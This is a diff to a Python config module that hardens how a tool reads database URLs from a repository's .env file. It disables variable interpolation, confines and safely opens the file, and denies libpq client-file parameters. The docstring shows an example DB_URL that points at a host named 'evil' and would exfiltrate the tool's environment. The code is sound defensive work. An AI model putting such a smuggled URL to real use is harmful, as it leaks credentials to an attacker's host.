@@ -4,6 +4,11 @@ Order: `health.db-url` (or GUARD_HEALTH_DB_URL), else the variable `health.db-ur
 DB_URL, else DATABASE_URL; those variables are looked up in the environment first and only then in
 the root's .env file (python-dotenv), so the environment always wins over the file. The .env file
 is read, never loaded into os.environ: the alert command must not inherit its secrets. There is no built-in fallback URL.
+
+The .env file is the repository's, so it is read with python-dotenv's ${VAR} interpolation off: a
+cloned repo's `DB_URL=postgresql:///x?host=evil&options=${GUARD_AUDIT_URL}` must not send guard's own
+environment to a host it chose (issue 16, attack 2). And a relative env-file (the default `.env`)
+must stay in the root: a committed `.env` symlink to a file elsewhere is refused, not followed.
 """
 from __future__ import annotations
 
@@ -60,15 +65,35 @@ def resolve(config: Config, root: Path, environ: Mapping[str, str] | None = None
         return _make(settings.db_url, 'health.db-url')
     names = (settings.db_url_env,) if settings.db_url_env else DEFAULT_VARIABLES
     env_file = root / settings.env_file if settings.env_file else None
-    file_values = _read_env_file(env_file)
+    # An absolute env-file came from a trusted layer (guard.trust drops it from an untrusted one).
+    file_values = _read_env_file(env_file, None if os.path.isabs(settings.env_file) else root)
     # The whole environment before the file: a deployment's DATABASE_URL beats a stale DB_URL in .env.
     for name in names:
         if environ.get(name):
             return _make(environ[name], f'{name} in the environment')
     for name in names:
         if file_values and file_values.get(name):
-            return _make(file_values[name] or '', f'{name} in {env_file}')
+            found = _make(file_values[name] or '', f'{name} in {env_file}')
+            if not os.path.isabs(settings.env_file):
+                _refuse_driver_files(found)
+            return found
     raise ConfigError(_missing_message(names, config, env_file, file_values is not None))
+
+
+# libpq reads these files (or a service file naming more) on the client: from a URL the repository
+# wrote, they would make guard read, and present as its own, files outside the root.
+# https://www.postgresql.org/docs/current/libpq-connect.html#LIBPQ-PARAMKEYWORDS
+DRIVER_FILE_PARAMETERS = frozenset({'passfile', 'service', 'sslcert', 'sslkey', 'sslrootcert', 'sslcrl', 'sslcrldir',
+                                    'sslpassword'})
+
+
+def _refuse_driver_files(url: DatabaseUrl) -> None:
+    """A URL from the repository's own env file may not point the driver at client files (key, cert,
+    password or service file): set such a URL in the environment or a trusted config instead."""
+    named = sorted(k for k, _ in _query_items(parse(url.secret, url.source)) if k.lower() in DRIVER_FILE_PARAMETERS)
+    if named:
+        raise ConfigError(f'{url.source}: the URL names client files ({", ".join(named)}); a project\'s env file may '
+                          'not: set this URL in the environment or health.db-url in a trusted config')
 
 
 def parse(raw: str, source: str) -> URL:
@@ -93,13 +118,29 @@ def _make(raw: str, source: str) -> DatabaseUrl:
     return DatabaseUrl(masked=mask(parse(raw, source)), source=source, secret=raw.strip())
 
 
-def _read_env_file(path: Path | None) -> Mapping[str, str | None] | None:
-    """The file's variables (${VAR} expanded by python-dotenv), or None when there is no file."""
+def _read_env_file(path: Path | None, confined_to: Path | None) -> Mapping[str, str | None] | None:
+    """The file's variables, as written (no ${VAR} interpolation), or None when there is no file.
+    With `confined_to`, a file that resolves outside that folder is a ConfigError, never read."""
     if path is None or not path.is_file():
         return None
+    real = os.path.realpath(path)
+    if confined_to is not None:
+        top = os.path.realpath(confined_to)
+        if os.path.commonpath((top, real)) != top:
+            raise ConfigError(f'{path}: leads outside the root (to {real}): guard reads a project\'s env file only '
+                              'inside it; set health.env-file in a trusted config to read another')
+    import io
+    import stat
+
     from dotenv import dotenv_values
     try:
-        return dotenv_values(path)
+        # O_NONBLOCK: a FIFO planted as .env must not hang the check; O_NOFOLLOW: what was checked is read.
+        fd = os.open(real, os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK | os.O_CLOEXEC)
+        with os.fdopen(fd, 'rb') as f:
+            if not stat.S_ISREG(os.fstat(f.fileno()).st_mode):
+                return None
+            text = f.read().decode('utf-8')
+        return dotenv_values(stream=io.StringIO(text), interpolate=False)
     except (OSError, UnicodeDecodeError) as e:
         raise ConfigError(f'{path}: cannot read: {getattr(e, "strerror", None) or e}') from None
 
